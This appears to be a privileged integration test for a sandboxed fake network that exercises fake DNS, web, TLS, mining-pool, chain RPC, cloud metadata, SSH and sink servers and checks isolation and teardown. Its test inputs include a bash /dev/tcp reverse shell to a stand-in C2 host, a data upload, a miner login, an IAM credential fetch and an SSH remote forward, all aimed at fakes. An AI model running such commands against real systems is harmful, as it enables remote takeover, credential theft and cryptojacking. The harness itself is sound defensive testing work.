// Privileged integration test of the test network itself: the fakes answer, names resolve only
// through the test DNS, the host namespace has no way out, and teardown leaves nothing behind.
import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { existsSync, readdirSync, readFileSync } from 'node:fs';
import { after, before, describe, test } from 'node:test';
import { MARKERS, createTopology, sweepStaleTopologies, waitForOutput, withTopology, type Topology } from './index.ts';

const NODE = process.execPath;

async function nodeInHost(t: Topology, script: string): Promise<any> {
  const r = await t.execInHost(NODE, ['--input-type=module', '-e', script], { timeoutMs: 15_000 });
  assert.equal(r.code, 0, r.stderr);
  return JSON.parse(r.stdout);
}

async function curl(t: Topology, args: string[]): Promise<string> {
  const r = await t.execInHost('curl', ['-sS', '--max-time', '5', ...args]);
  assert.equal(r.code, 0, `curl ${args.join(' ')}: ${r.stderr}`);
  return r.stdout;
}

function pidAlive(pid: number): boolean {
  try { process.kill(pid, 0); return true; } catch { return false; }
}

function leftovers(t: { runId: string; hostNs: string; dir: string }): string[] {
  const found: string[] = [];
  if (existsSync('/run/netns')) for (const n of readdirSync('/run/netns')) if (n.includes(t.runId)) found.push(`netns ${n}`);
  for (const l of readdirSync('/sys/class/net')) if (l.includes(t.runId)) found.push(`link ${l}`);
  if (existsSync(`/etc/netns/${t.hostNs}`)) found.push(`/etc/netns/${t.hostNs}`);
  if (existsSync(t.dir)) found.push(t.dir);
  for (const p of readdirSync('/proc')) {
    if (!/^\d+$/.test(p)) continue;
    if (readFileSafe(`/proc/${p}/cmdline`).includes(t.dir)) found.push(`process ${p}`);
  }
  return found;
}

function readFileSafe(path: string): string {
  try { return readFileSync(path, 'utf8'); } catch { return ''; }
}

describe('topology', () => {
  let t: Topology;
  before(async () => { t = await createTopology(); });
  after(async () => { await t?.teardown(); });

  test('starts every fake server quickly', (ctx) => {
    ctx.diagnostic(`startup ${t.startupMs} ms`);
    assert.deepEqual([...t.started].sort(), ['dns', 'internal', 'jsonrpc', 'metadata', 'sink', 'ssh', 'stratum', 'tls', 'web']);
    assert.match(t.hostNs, /^pt-[0-9a-f]{6}-host$/);
    assert.match(t.inetNs, /^pt-[0-9a-f]{6}-inet$/);
    assert.ok(t.startupMs < 4000, `startup took ${t.startupMs} ms`);
  });

  test('host namespace has lo and one veth, and routes only to inet; real addresses are unreachable at once', async () => {
    const links = (await t.execInHost('ip', ['-o', 'link', 'show'])).stdout.trim().split('\n').map((l) => l.split(': ')[1]!.split('@')[0]);
    assert.deepEqual(links, ['lo', `pt-${t.runId}-h`]);
    const routes = (await t.execInHost('ip', ['route', 'show'])).stdout.trim().split('\n').map((l) => l.trim());
    assert.equal(routes.length, 2, routes.join('\n'));
    assert.match(routes[0]!, new RegExp(`^default via ${t.inetIp.replace(/\./g, '\\.')} dev pt-${t.runId}-h`));
    assert.match(routes[1]!, /^198\.51\.100\.0\/24 dev /);
    const inetRoutes = (await t.execInInet('ip', ['route', 'show'])).stdout.trim().split('\n').map((l) => l.trim());
    assert.deepEqual(inetRoutes.map((r) => r.split(' ').slice(0, 2).join(' ')), ['unreachable default', '198.51.100.0/24 dev']);
    assert.equal((await t.execInInet('ip', ['-o', 'link', 'show'])).stdout.trim().split('\n').length, 2);
    // Proven above that a packet can only reach inet, where it is rejected: safe to try.
    const res = await nodeInHost(t, `
      import net from 'node:net';
      const out = [];
      for (const ip of ['203.0.113.99', '192.0.2.99']) { // unused TEST-NET addresses: nothing answers
        const t0 = Date.now();
        const code = await new Promise((r) => { const s = net.connect({ host: ip, port: 443, timeout: 3000 });
          s.on('connect', () => { s.destroy(); r('CONNECTED'); }); s.on('timeout', () => { s.destroy(); r('TIMEOUT'); }); s.on('error', (e) => r(e.code)); });
        out.push({ ip, code, ms: Date.now() - t0 });
      }
      console.log(JSON.stringify(out));`);
    for (const r of res) {
      assert.match(r.code, /^E(HOST|NET)UNREACH$/, JSON.stringify(r));
      assert.ok(r.ms < 1000, JSON.stringify(r));
    }
  });

  test('web is reached by name through the test DNS', async () => {
    assert.match(await curl(t, ['http://web.example.test/hello']), new RegExp(MARKERS.web));
    const q = await t.waitForLog('dns', (e) => e.name === 'web.example.test' && e.type === 'A');
    assert.equal(q.answer, t.servers.web.ip);
    const req = await t.waitForLog('web', (e) => e.event === 'request' && e.url === '/hello');
    assert.equal(req.host, 'web.example.test');
    assert.equal(await curl(t, ['-o', '/dev/null', '-w', '%{size_download}', 'http://pkgs.example.test/bytes?n=3000000']), '3000000');
    assert.match(await curl(t, ['http://a.b.mirror.example.test/']), /PRAETOR-WEB-OK/);
    assert.match(await curl(t, ['--data-binary', 'secret-payload', 'http://api.example.test/upload']), /received 14 bytes/);
    const up = await t.waitForLog('web', (e) => e.url === '/upload');
    assert.equal(up.bodyHead, 'secret-payload');
  });

  test('DNS answers only test names, NXDOMAIN otherwise, never forwarding', async () => {
    const res = await nodeInHost(t, `
      import dns from 'node:dns';
      import net from 'node:net';
      const r = new dns.promises.Resolver({ timeout: 1000, tries: 1 });
      r.setServers(['192.0.2.53']);
      const q = async (n) => { const t0 = Date.now(); try { return { n, a: await r.resolve4(n), ms: Date.now() - t0 }; } catch (e) { return { n, err: e.code, ms: Date.now() - t0 }; } };
      const out = [await q('constructor'), await q('example.com'), await q('nope.example.test'), await q('rebind.example.test'), await q('x.y.mirror.example.test'), await q('POOL.example.test')];
      out.push({ n: 'lookup', a: (await dns.promises.lookup('pkgs.example.test', { family: 4 })).address });
      // The TCP side: a hand-made query for web.example.test.
      const name = Buffer.concat(['web','example','test'].map((l) => Buffer.concat([Buffer.from([l.length]), Buffer.from(l)])));
      const msg = Buffer.concat([Buffer.from([0x12,0x34,1,0,0,1,0,0,0,0,0,0]), name, Buffer.from([0,0,1,0,1])]);
      const len = Buffer.alloc(2); len.writeUInt16BE(msg.length);
      const tcp = await new Promise((res, rej) => { const s = net.connect(53, '192.0.2.53', () => s.write(Buffer.concat([len, msg])));
        s.on('data', (d) => { s.destroy(); res(d); }); s.on('error', rej); s.setTimeout(3000, () => rej(new Error('timeout'))); });
      out.push({ n: 'tcp', a: [...tcp.subarray(tcp.length - 4)].join('.'), rcode: tcp[5] & 15 });
      console.log(JSON.stringify(out));`);
    const by = Object.fromEntries(res.map((r: any) => [r.n, r]));
    assert.equal(by['example.com'].err, 'ENOTFOUND');
    assert.ok(by['example.com'].ms < 500, 'answered at once, not after an upstream lookup');
    assert.equal(by['nope.example.test'].err, 'ENOTFOUND');
    assert.equal(res.find((r: any) => r.n === 'constructor').err, 'ENOTFOUND', 'prototype names are not records');
    assert.deepEqual(by['rebind.example.test'].a, ['10.99.0.10']);
    assert.deepEqual(by['x.y.mirror.example.test'].a, ['203.0.113.10']);
    assert.deepEqual(by['POOL.example.test'].a, ['203.0.113.20']);
    assert.equal(by.lookup.a, '203.0.113.10');
    assert.deepEqual([by.tcp.a, by.tcp.rcode], ['203.0.113.10', 0]);
    const logged = (await t.log('dns')).find((e) => e.name === 'example.com');
    assert.equal(logged?.rcode, 'NXDOMAIN');
    assert.equal(logged?.forwarded, false);
    assert.ok((await t.log('dns')).some((e) => e.transport === 'tcp'));
  });

  test('TLS server logs the SNI it saw, also when the client rejects the certificate', async () => {
    assert.match(await curl(t, ['--cacert', t.tlsCertPath, 'https://tls.example.test/']), /PRAETOR-WEB-OK/);
    const r = await t.execInHost('curl', ['-sS', '--max-time', '5', '--resolve', 'exfil.example.test:443:203.0.113.11', 'https://exfil.example.test/']);
    assert.notEqual(r.code, 0, 'untrusted certificate must fail');
    const snis = (await t.log('tls')).filter((e) => e.event === 'sni').map((e) => e.sni);
    assert.deepEqual(snis, ['tls.example.test', 'exfil.example.test']);
  });

  test('Stratum pool answers the handshake on 3333 and 443 and logs every byte', async () => {
    const res = await nodeInHost(t, `
      import net from 'node:net';
      const talk = (port, lines) => new Promise((res, rej) => { let got = ''; const s = net.connect(port, '203.0.113.20', () => s.write(lines.map((l) => JSON.stringify(l) + '\\n').join('')));
        s.on('data', (d) => { got += d; if (got.split('\\n').length > lines.length) { s.end(); res(got.trim().split('\\n').map((l) => JSON.parse(l))); } });
        s.on('error', rej); s.setTimeout(3000, () => rej(new Error('timeout'))); });
      const v1 = await talk(3333, [{ id: 1, method: 'mining.subscribe', params: ['cpuminer/2.5'] }, { id: 2, method: 'mining.authorize', params: ['wallet.worker', 'x'] }]);
      const xmr = await talk(443, [{ id: 1, jsonrpc: '2.0', method: 'login', params: { login: '4Wallet', pass: 'x', agent: 'XMRig/6.21' } }]);
      await new Promise((r) => { const s = net.connect(3333, '203.0.113.20', () => s.end()); s.on('close', r); });
      console.log(JSON.stringify({ v1, xmr }));`);
    assert.equal(res.v1[0].id, 1);
    assert.equal(res.v1[1].result, true);
    assert.equal(res.xmr[0].result.status, 'OK');
    await t.waitForLog('stratum', (e) => e.event === 'close' && e.bytesIn === 0);
    const log = await t.log('stratum');
    assert.deepEqual(log.filter((e) => e.event === 'method').map((e) => [e.port, e.method]), [[3333, 'mining.subscribe'], [3333, 'mining.authorize'], [443, 'login']]);
    const first = log.find((e) => e.event === 'data');
    assert.match(String(first?.text), /mining\.subscribe/);
    const conns = log.filter((e) => e.event === 'close').map((e) => e.bytesIn as number);
    assert.equal(conns.length, 3);
    assert.equal(conns.filter((b) => b === 0).length, 1, 'the silent connection delivered zero bytes');
  });

  test('JSON-RPC chain node, internal service and metadata service answer and record', async () => {
    const body = await curl(t, ['-H', 'content-type: application/json', '--data', '[{"jsonrpc":"2.0","id":1,"method":"eth_blockNumber"},{"jsonrpc":"2.0","id":2,"method":"eth_sendRawTransaction","params":["0xf86c"]}]', 'http://rpc.example.test:8545/']);
    const out = JSON.parse(body);
    assert.equal(out[0].result, '0x10d4f');
    assert.match(out[1].result, /^0x[0-9a-f]{64}$/);
    assert.deepEqual((await t.log('jsonrpc')).filter((e) => e.event === 'rpc').map((e) => e.method), ['eth_blockNumber', 'eth_sendRawTransaction']);
    assert.match(await curl(t, ['http://10.99.0.10/admin']), new RegExp(MARKERS.internal));
    assert.match(await curl(t, ['http://rebind.example.test/']), new RegExp(MARKERS.internal));
    const creds = await curl(t, ['http://169.254.169.254/latest/meta-data/iam/security-credentials/praetor-test-role']);
    assert.equal(JSON.parse(creds).SecretAccessKey, MARKERS.metadataSecret);
    assert.ok((await t.log('metadata')).some((e) => e.event === 'request' && String(e.url).includes('security-credentials')));
  });

  test('the sink logs what a reverse shell sends back', async () => {
    const r = await t.execInHost('bash', ['-c', 'exec 3<>/dev/tcp/c2.example.test/4444; read -t 3 cmd <&3; eval "$cmd" >&3'], { timeoutMs: 10_000 });
    assert.equal(r.code, 0, r.stderr);
    const got = await t.waitForLog('sink', (e) => e.event === 'data');
    assert.equal(got.text, 'PRAETOR-SHELL-42\n');
  });

  test('sshd accepts a key login from host and records forwarding requests', async () => {
    const r = await t.execInHost('ssh', [...t.ssh.args, t.servers.ssh.name, 'echo logged-in'], { timeoutMs: 15_000 });
    assert.equal(r.code, 0, r.stderr);
    assert.equal(r.stdout.trim(), 'logged-in');
    const fwd = await t.execInHost('ssh', [...t.ssh.args, '-o', 'ExitOnForwardFailure=yes', '-R', '0.0.0.0:8022:127.0.0.1:22', t.servers.ssh.ip, 'true'], { timeoutMs: 15_000 });
    assert.equal(fwd.code, 0, fwd.stderr);
    const auth = await t.waitForLog('ssh', (e) => e.event === 'auth' && e.ok === true);
    assert.equal(auth.user, 'root');
    const remote = await t.waitForLog('ssh', (e) => e.event === 'forward' && e.kind === 'remote');
    assert.equal(remote.listen, '0.0.0.0:8022');
  });

  test('spawnInInet runs beside the fake servers; waitForOutput waits for a line or reports the exit', async () => {
    const c = t.spawnInInet('sh', ['-c', 'ip -o -4 addr show; exec sleep 30'], { stdio: ['ignore', 'pipe', 'pipe'] });
    try {
      await waitForOutput(c, { ready: new RegExp(`inet ${t.servers.web.ip.replace(/\./g, '\\.')}/`), timeoutMs: 5000, what: 'probe' });
    } finally { c.kill('SIGKILL'); }
    const dead = t.spawnInInet('sh', ['-c', 'exit 3'], { stdio: ['ignore', 'pipe', 'pipe'] });
    await assert.rejects(waitForOutput(dead, { ready: /never/, timeoutMs: 5000, what: 'probe' }), /^Error: probe exited \(3\)/);
  });

  test('sshd log entries carry the time sshd wrote them, not the time they are read', async () => {
    const seen = (await t.log('ssh')).length;
    const from = Date.now();
    const r = await t.execInHost('ssh', [...t.ssh.args, t.servers.ssh.ip, 'echo window'], { timeoutMs: 15_000 });
    const to = Date.now();
    assert.equal(r.code, 0, r.stderr);
    await t.waitForLog('ssh', (e) => e.event === 'close' && e.ts >= from);
    // Read well after the connection ended: a read-time stamp would fall outside [from, to].
    await new Promise((res) => setTimeout(res, 300));
    const mine = (await t.log('ssh')).slice(seen);
    const conn = mine.find((e) => e.event === 'connection');
    const auth = mine.find((e) => e.event === 'auth' && e.ok === true);
    assert.ok(conn && auth, `connection and auth logged: ${JSON.stringify(mine.map((e) => e.text))}`);
    for (const e of [conn, auth]) assert.ok(e.ts >= from && e.ts <= to, `${e.event} at ${e.ts} within [${from}, ${to}]`);
  });
});

describe('teardown', () => {
  test('removes namespaces, files and every process, and is idempotent', async () => {
    const t = await createTopology({ servers: ['web', 'ssh'] });
    const sleeper = t.spawnInHost('sleep', ['60'], { stdio: 'ignore' });
    const pids = (await t.execInInet('ip', ['netns', 'pids', t.inetNs])).stdout.trim().split('\n').map(Number);
    assert.ok(pids.length >= 2, 'servers run in inet');
    const before = leftovers(t);
    for (const l of [`netns ${t.hostNs}`, `netns ${t.inetNs}`, `/etc/netns/${t.hostNs}`, t.dir]) assert.ok(before.includes(l), `${l} in ${before.join(', ')}`);
    assert.ok(before.filter((l) => l.startsWith('process')).length >= 2, 'node servers and sshd run with the run dir in their command line');
    await t.teardown();
    await t.teardown();
    assert.deepEqual(leftovers(t), []);
    assert.ok(sleeper.pid !== undefined && !pidAlive(sleeper.pid), 'host process killed');
    for (const p of pids) assert.ok(!pidAlive(p), `inet process ${p} killed`);
  });

  test('runs when the test body throws', async () => {
    let seen: Topology | undefined;
    await assert.rejects(withTopology(async (t) => {
      seen = t;
      t.spawnInHost('sleep', ['60'], { stdio: 'ignore' });
      throw new Error('boom');
    }, { servers: ['web'] }), /boom/);
    assert.ok(seen);
    assert.deepEqual(leftovers(seen), []);
  });

  test('runs when the test process exits or is killed by SIGTERM without tearing down', async () => {
    for (const how of ['exit', 'SIGTERM']) {
      const script = `import { createTopology } from ${JSON.stringify(new URL('./index.ts', import.meta.url).href)};
        const t = await createTopology({ servers: ['web'] });
        console.log(JSON.stringify({ runId: t.runId, hostNs: t.hostNs, dir: t.dir }));
        if (${JSON.stringify(how)} === 'exit') process.exit(3); else setTimeout(() => {}, 30000);`;
      const child = spawn(NODE, ['--input-type=module', '-e', script], { stdio: ['ignore', 'pipe', 'inherit'] });
      const info = await new Promise<{ runId: string; hostNs: string; dir: string }>((res, rej) => {
        let out = '';
        child.stdout.on('data', (d) => { out += d; if (out.includes('\n')) res(JSON.parse(out)); });
        child.on('exit', () => { if (!out.includes('\n')) rej(new Error('child died before printing')); });
      });
      if (how === 'SIGTERM') child.kill('SIGTERM');
      const code = await new Promise((r) => child.exitCode !== null ? r(child.exitCode) : child.on('exit', (c, s) => r(c ?? s)));
      assert.equal(code, how === 'exit' ? 3 : 'SIGTERM');
      const left = leftovers(info);
      assert.deepEqual(left, [], `${how}: ${left.join(', ')}`);
    }
  });

  test('a topology whose process was SIGKILLed is swept by the next run', async () => {
    const script = `import { createTopology } from ${JSON.stringify(new URL('./index.ts', import.meta.url).href)};
      const t = await createTopology({ servers: ['web', 'ssh'] });
      console.log(JSON.stringify({ runId: t.runId, hostNs: t.hostNs, dir: t.dir })); setTimeout(() => {}, 30000);`;
    const child = spawn(NODE, ['--input-type=module', '-e', script], { stdio: ['ignore', 'pipe', 'inherit'] });
    const info = await new Promise<{ runId: string; hostNs: string; dir: string }>((res, rej) => {
      let out = '';
      child.stdout.on('data', (d) => { out += d; if (out.includes('\n')) res(JSON.parse(out)); });
      child.on('exit', () => { if (!out.includes('\n')) rej(new Error('child died before printing')); });
    });
    child.kill('SIGKILL');
    await new Promise((r) => child.exitCode !== null || child.signalCode !== null ? r(null) : child.on('exit', r));
    // Another test file's createTopology may sweep it first; either way it must end up gone.
    const wasLeft = leftovers(info).includes(`netns ${info.hostNs}`);
    const swept = await sweepStaleTopologies();
    if (wasLeft) assert.ok(swept.includes(info.runId) || !existsSync(`/run/netns/${info.hostNs}`), `swept ${swept.join()}`);
    assert.deepEqual(leftovers(info), []);
  });

  test('routes extra subnets back through host when asked', async () => {
    await withTopology(async (t) => {
      const routes = (await t.execInInet('ip', ['route', 'show'])).stdout;
      assert.match(routes, /10\.200\.0\.0\/16 via 198\.51\.100\.1/);
    }, { servers: [], routesViaHost: ['10.200.0.0/16'] });
    await assert.rejects(createTopology({ routesViaHost: ['0.0.0.0/0'] }), /never a default route/);
  });

  test('rejects unknown servers and real names in DNS records', async () => {
    await assert.rejects(createTopology({ servers: ['ftp'] }), /unknown fake server "ftp"/);
    await assert.rejects(createTopology({ records: { 'pool.minexmr.com': '203.0.113.20' } }), /must end in \.test/);
    await assert.rejects(createTopology({ records: { 'x.test': '8.8.8.8' } }), /TEST-NET/);
  });
});
